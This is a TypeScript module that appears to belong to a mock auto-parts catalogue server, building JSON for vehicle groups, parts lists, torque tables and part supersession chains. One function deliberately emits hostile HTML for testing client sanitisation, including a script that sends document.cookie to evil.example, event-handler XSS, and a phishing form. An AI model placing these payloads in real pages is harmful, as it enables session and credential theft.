import type { GroupModel, NodeModel, PartRow } from '../data/model'
import { formatPartNumber } from '../data/part-numbers'
import type { RenderContext } from './context'
import { filterNodes, filterParts, listForm, partsForm, type FormValues } from './forms'
import { escapeHtml, table, type JsonObject } from './json'
import { bulletinsSection, maintenanceSection, techDataSection } from './service-sections'
import { target, type SectionTarget } from './targets'
import { nodeLayout } from '../images/render'

// One builder per section kind. Returned objects are the `result` of /api/q (spec 2.4).

const TABS = [
  { tab: 'mech', title: 'tab_mech' },
  { tab: 'body', title: 'tab_body' },
  { tab: 'service', title: 'tab_service' }
] as const

export function renderSection(
  ctx: RenderContext,
  t: SectionTarget,
  form: FormValues | undefined
): JsonObject | undefined {
  const v = ctx.vehicle
  switch (t.kind) {
    case 'M':
      return mainGroups(ctx)
    case 'G': {
      const g = v.groups[Number(t.id)]
      if (!g || String(Number(t.id)) !== t.id) return undefined
      if (g.kind === 'serviceParts') return maintenanceSection(ctx, g)
      if (g.kind === 'nodesBlockData') return techDataSection(ctx, g)
      if (g.kind === 'bulletins') return bulletinsSection(ctx, g)
      return groupSection(ctx, g)
    }
    case 'S': {
      return v.subgroups.has(t.id) ? subgroupSection(ctx, t.id, form ?? {}) : undefined
    }
    case 'N': {
      const n = v.nodes.get(t.id)
      return n ? nodeSection(ctx, n, form ?? {}) : undefined
    }
    case 'P': {
      const n = v.nodes.get(t.id)
      return n && n.parts[t.row] ? partInfoSection(ctx, n, t.row) : undefined
    }
  }
}

export function mainGroups(ctx: RenderContext): JsonObject {
  const v = ctx.vehicle
  return ctx.envelope({
    lists_group: TABS.map(({ tab, title }) => ({
      tab,
      title: ctx.t(title),
      lists: v.groups
        .filter((g) => g.tab === tab)
        .map((g) => ({
          code: g.code,
          title: ctx.t(g.title),
          q: ctx.ptr(target.group(v.index, g.id)),
          qImage: ctx.thumb(`g${g.id}`)
        }))
    })),
    bread_crumb: ctx.crumbs({})
  })
}

function groupSection(ctx: RenderContext, g: GroupModel): JsonObject {
  const v = ctx.vehicle
  const odd = Number(g.id) % 2 === 1
  const nodeCount = g.subgroups.reduce((a, s) => a + s.nodes.length, 0)
  return ctx.envelope({
    lists: g.subgroups.map((s, i) => ({
      code: s.code,
      title: ctx.t(s.title),
      q: ctx.ptr(target.sub(v.index, s.id)),
      qImage: ctx.thumb(`s${s.id}`),
      // unknown extras, as the real service sends
      ...(i % 2 === 0
        ? { count: s.nodes.length }
        : { note: s.nodes.some((n) => n.optional) ? ctx.t('f_optional') : '' })
    })),
    groupinfo: odd
      ? [
          table(
            ctx.t('t_groupinfo'),
            [
              ['parameter', ctx.t('t_parameter')],
              ['value', ctx.t('t_value')]
            ],
            [
              { parameter: ctx.t('t_code'), value: g.code },
              { parameter: ctx.t('t_node'), value: nodeCount }
            ]
          )
        ]
      : { code: g.code, title: ctx.t(g.title), nodes: nodeCount, catalog: v.def.catalog },
    listinfo: { title: ctx.t('t_listinfo'), rows: g.subgroups.length, text: ctx.t('i_hotspot') },
    bread_crumb: ctx.crumbs({ group: g.id })
  })
}

function subgroupSection(ctx: RenderContext, subId: string, form: FormValues): JsonObject {
  const v = ctx.vehicle
  const sub = v.subgroups.get(subId)!
  const group = v.groups[Number(subId.split('.')[0])]!
  const nodes = group.form ? filterNodes(ctx, sub.nodes, form) : sub.nodes
  const engineTitle = (code: string): string => v.def.engines.find((e) => e.code === code)?.title ?? code
  return ctx.envelope({
    lists: nodes.map((n) => ({
      code: n.code,
      title: ctx.nodeTitle(n),
      q: ctx.ptr(target.node(v.index, n.id)),
      qImage: ctx.thumb(`n${n.id}`),
      ...(n.engines ? { applicability: n.engines.map(engineTitle).join(', ') } : {}),
      ...(n.optional ? { optional: true, note: ctx.t('f_optional') } : {})
    })),
    ...(group.form ? { forms: [listForm(ctx, subId, form)] } : {}),
    listinfo: [
      table(
        ctx.t('t_listinfo'),
        [
          ['code', ctx.t('t_code')],
          ['name', ctx.t('t_name')],
          ['qty', ctx.t('t_qty')]
        ],
        nodes.map((n) => ({ code: n.code, name: ctx.nodeTitle(n), qty: { value: n.parts.length, unit: 'rows' } }))
      )
    ],
    ...(sub.nodes.some((n) => n.optional) ? { info: { type: 'info', text: ctx.t('i_prod_dep') } } : {}),
    bread_crumb: ctx.crumbs({ group: group.id, sub: subId })
  })
}

const TORQUES: [string, string, number][] = [
  ['p_bolt', 'M6', 10],
  ['p_bolt', 'M8', 25],
  ['p_bolt', 'M10', 50],
  ['p_nut', 'M12x1.5', 80],
  ['p_wheel_bolt', 'M14x1.5', 120]
]

function torqueTable(ctx: RenderContext): JsonObject {
  return table(
    ctx.t('t_torque'),
    [
      ['name', ctx.t('t_name')],
      ['value', ctx.t('t_value')]
    ],
    TORQUES.map(([k, size, nm]) => ({ name: `${ctx.t(k)} ${size}`, value: { value: `${nm} Nm`, tolerance: '±10%' } }))
  )
}

function nodeHtml(ctx: RenderContext, node: NodeModel, kind: 'note' | 'hostile'): string {
  const title = escapeHtml(ctx.nodeTitle(node))
  if (kind === 'hostile') {
    // Deliberately hostile markup: a client must sanitise before showing it.
    return (
      `<h3>${escapeHtml(ctx.t('i_hostile'))}: ${title}</h3>` +
      `<p>${escapeHtml(ctx.t('i_bulletin'))}</p>` +
      `<script>window.__demoXss = true; fetch('https://evil.example/steal?c=' + document.cookie)</script>` +
      `<img src="x" onerror="window.__demoXss = true">` +
      `<a href="javascript:window.__demoXss=true">${escapeHtml(ctx.t('i_more'))}</a>` +
      `<iframe src="https://evil.example/frame"></iframe>` +
      `<form action="https://evil.example/login" method="post"><input name="token"><button>OK</button></form>` +
      `<div onclick="window.__demoXss = true" style="position:fixed;inset:0">&nbsp;</div>`
    )
  }
  const rows = TORQUES.map(
    ([k, size, nm]) => `<tr><td>${escapeHtml(`${ctx.t(k)} ${size}`)}</td><td>${nm} Nm</td></tr>`
  ).join('')
  return (
    `<h3>${escapeHtml(ctx.t('t_install'))}: ${title}</h3><p>${escapeHtml(ctx.t('i_bulletin'))}</p>` +
    `<table><thead><tr><th>${escapeHtml(ctx.t('t_name'))}</th><th>${escapeHtml(ctx.t('t_value'))}</th></tr></thead><tbody>${rows}</tbody></table>` +
    `<p><a href="https://service.example.com/${encodeURIComponent(ctx.vehicle.def.catalog)}/${node.code}">${escapeHtml(ctx.t('i_more'))}</a></p>`
  )
}

function partRow(ctx: RenderContext, node: NodeModel, p: PartRow, row: number): JsonObject {
  return {
    hotspotId: p.hotspotId,
    number: p.number,
    name: ctx.partName(p),
    qty: p.qty,
    note: p.note,
    q_partinfo: ctx.ptr(target.part(ctx.v, node.id, row)),
    ...(p.side ? { side: p.side } : {}),
    ...(p.from ? { prodFrom: p.from } : {}),
    ...(p.to ? { prodTo: p.to } : {}),
    ...(row % 5 === 0 ? { weight: p.weightKg } : {})
  }
}

function nodeSection(ctx: RenderContext, node: NodeModel, form: FormValues): JsonObject {
  const v = ctx.vehicle
  const layout = nodeLayout(ctx.model, ctx.vehicle, node)
  const rows = node.extras.form ? filterParts(node, form) : node.parts.map((_, i) => i)
  const subId = node.id.split('.').slice(0, 2).join('.')
  const groupId = node.id.split('.')[0]!
  const x = node.extras
  return ctx.envelope({
    node: {
      code: node.code,
      title: ctx.nodeTitle(node),
      qGroup: ctx.ptr(target.sub(v.index, subId)),
      scheme: {
        qImage: ctx.ptr(target.scheme(v.index, node.id)),
        width: layout.width,
        height: layout.height,
        hotspots: layout.hotspots.map((h) => ({ ...h }))
      },
      parts: rows.map((i) => partRow(ctx, node, node.parts[i]!, i)),
      ...(node.optional ? { optional: true } : {})
    },
    ...(x.form ? { forms: [partsForm(ctx, node, form)] } : {}),
    ...(x.tables ? { tables: [torqueTable(ctx)] } : {}),
    ...(x.images ? { images: [ctx.photo(`n${node.id}a`), ctx.photo(`n${node.id}b`, 480, 360)] } : {}),
    ...(x.html ? { html: nodeHtml(ctx, node, x.html) } : {}),
    ...(x.modal
      ? {
          modal: { title: ctx.t('t_install'), tables: [torqueTable(ctx)], images: [ctx.photo(`m${node.id}`, 480, 360)] }
        }
      : {}),
    ...(x.info ? { info: { type: x.info, text: ctx.t(x.info === 'warning' ? 'i_prod_dep' : 'i_hotspot') } } : {}),
    bread_crumb: ctx.crumbs({ group: groupId, sub: subId, node: node.id })
  })
}

/** Supersession chain around a number: older numbers it replaced and newer ones replacing it. */
export function replacementChain(
  ctx: RenderContext,
  p: PartRow
): { from: string; to: string; date: string; full: boolean }[] {
  const h = ctx.hash(`chain|${p.number}`)
  const other = (tag: string): string => formatPartNumber(p.system, `${p.number}#${tag}`, ctx.model.seed)
  const year = 2012 + (h % 8)
  switch (h % 5) {
    case 0: {
      const a = other('p2')
      const b = other('p1')
      return [
        { from: a, to: b, date: `0${1 + (h % 9)}.${year}`, full: true },
        { from: b, to: p.number, date: `1${h % 3}.${year + 2}`, full: h % 2 === 0 }
      ]
    }
    case 1:
      return [{ from: other('p1'), to: p.number, date: `0${1 + (h % 9)}.${year + 3}`, full: true }]
    case 2: {
      const b = other('n1')
      const c = other('n2')
      return [
        { from: p.number, to: b, date: `0${1 + (h % 9)}.${year + 6}`, full: true },
        { from: b, to: c, date: `1${h % 3}.${year + 8}`, full: false }
      ]
    }
    default:
      return []
  }
}

function partInfoSection(ctx: RenderContext, node: NodeModel, row: number): JsonObject {
  const v = ctx.vehicle
  const p = node.parts[row]!
  const h = ctx.hash(`info|${p.number}`)
  const groupId = node.id.split('.')[0]!
  const subId = node.id.split('.').slice(0, 2).join('.')
  const maker = p.system === 'STD' ? 'DIN/ISO' : v.def.make
  const partinfo =
    h % 2 === 0
      ? {
          number: p.number,
          name: ctx.partName(p),
          weight: p.weightKg,
          material: ctx.t(p.material),
          manufacturer: maker,
          unit: 'pcs',
          packQty: p.qty
        }
      : [
          table(
            ctx.t('t_partinfo'),
            [
              ['parameter', ctx.t('t_parameter')],
              ['value', ctx.t('t_value')]
            ],
            [
              { parameter: ctx.t('t_number'), value: { value: p.number, copyable: true } },
              { parameter: ctx.t('t_name'), value: ctx.partName(p) },
              { parameter: ctx.t('t_weight'), value: p.weightKg },
              { parameter: ctx.t('t_material'), value: ctx.t(p.material) },
              { parameter: ctx.t('t_dimensions'), value: `${40 + (h % 300)}×${20 + (h % 120)}×${5 + (h % 60)}` }
            ]
          )
        ]
  const chain = replacementChain(ctx, p)
  const uses = (ctx.model.uses.get(p.number) ?? []).slice(0, 60)
  return ctx.envelope({
    partinfo,
    replacement: [
      table(
        ctx.t('t_replacement'),
        [
          ['old', ctx.t('t_old')],
          ['new', ctx.t('t_new')],
          ['date', ctx.t('t_date')],
          ['interchange', ctx.t('t_interchange')]
        ],
        chain.map((c) => ({
          old: c.from,
          new: { value: c.to, current: c.to === p.number },
          date: c.date,
          interchange: ctx.t(c.full ? 'yes_full' : 'yes_set')
        }))
      )
    ],
    compatibility: [
      table(
        ctx.t('t_compat'),
        [
          ['vehicle', ctx.t('t_vehicle')],
          ['catalog', ctx.t('t_catalog')],
          ['node', ctx.t('t_node')],
          ['qty', ctx.t('t_qty')]
        ],
        uses.map((u) => {
          const other = ctx.model.vehicles[u.vehicle]!
          const n = other.nodes.get(u.nodeId)!
          return {
            vehicle: ctx.vehicleName(other),
            catalog: other.def.catalog,
            node: { value: ctx.nodeTitle(n), code: n.code },
            qty: u.qty
          }
        })
      )
    ],
    ...(h % 3 === 0 ? { images: [ctx.photo(`p${p.number}`, 480, 360, 't_partinfo')] } : {}),
    bread_crumb: ctx.crumbs({ group: groupId, sub: subId, node: node.id, part: { node, row } })
  })
}
